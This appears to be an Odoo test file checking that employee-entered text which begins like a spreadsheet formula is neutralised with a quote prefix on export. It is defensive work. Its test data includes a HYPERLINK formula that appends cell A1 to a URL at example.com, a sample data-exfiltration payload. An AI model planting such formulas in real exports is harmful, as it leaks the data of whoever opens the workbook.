# License LGPL-3.0 or later (https://www.gnu.org/licenses/lgpl).
import doctest
import io
import json

import openpyxl

from odoo import http
from odoo.tests import freeze_time, tagged

from ..tools import formulas
from .common import NOW, KinerjaHttpCase

LINK = '=HYPERLINK("http://example.com/?"&A1,"klik")'


@tagged("post_install", "-at_install")
@freeze_time(NOW)
class TestExport(KinerjaHttpCase):
    """What an employee types is no formula in the workbook of the officer."""

    @classmethod
    def setUpClass(cls):
        super().setUpClass()
        corrections = cls._as(cls.env["asn.data.correction"], cls.users["own"])
        cls.correction = corrections.create(
            {"subject": "unit", "wished": LINK, "note": "naik = baik"}
        )

    def _export(self, record, *paths):
        return self._as_role(record, "manager").export_data(paths)["datas"]

    def test_the_example_in_the_code_holds(self):
        self.assertFalse(doctest.testmod(formulas).failed)

    def test_each_beginning_of_a_formula_is_guarded(self):
        for start in ("=1", " =1", "{=1}", "+1", "-1", "@SUM(A1)", "\t=1", "\r=1"):
            with self.subTest(start=start):
                self.correction.sudo().wished = start
                rows = self._export(self.correction, "wished", "note")
                self.assertEqual(rows, [[f"'{start}", "naik = baik"]])

    def test_external_ids_and_numbers_stay_as_they_are(self):
        correction = self.correction.sudo()
        rows = correction.export_data(["id", ".id", "employee_id/.id"])["datas"]
        self.assertEqual(self.env.ref(rows[0][0]), correction)
        self.assertEqual(rows[0][1:], [str(correction.id), str(self.people["own"].id)])

    def test_a_path_from_another_model_is_guarded_and_its_own_text_is_not(self):
        rank = self._get_rank("III/a")
        rank.name = LINK
        self.people["own"].name = "=Name"
        rows = self.people["own"].export_data(["name", "asn_rank_id/name"])["datas"]
        self.assertEqual(rows, [["=Name", f"'{LINK}"]])

    def test_the_workbook_has_text_where_the_employee_typed_a_formula(self):
        self._log_in("manager")
        columns = [{"name": name, "label": name} for name in ("wished", "note")]
        data = {
            "model": "asn.data.correction",
            "fields": [{**column, "type": "char"} for column in columns],
            "ids": self.correction.ids,
            "domain": [],
            "import_compat": False,
        }
        answer = self.url_open(
            "/web/export/xlsx",
            data={
                "data": json.dumps(data),
                "csrf_token": http.Request.csrf_token(self),
            },
        )
        self.assertEqual(answer.status_code, 200)
        sheet = openpyxl.load_workbook(io.BytesIO(answer.content)).active
        cell = sheet["A2"]
        self.assertEqual((cell.data_type, cell.value), ("s", f"'{LINK}"))
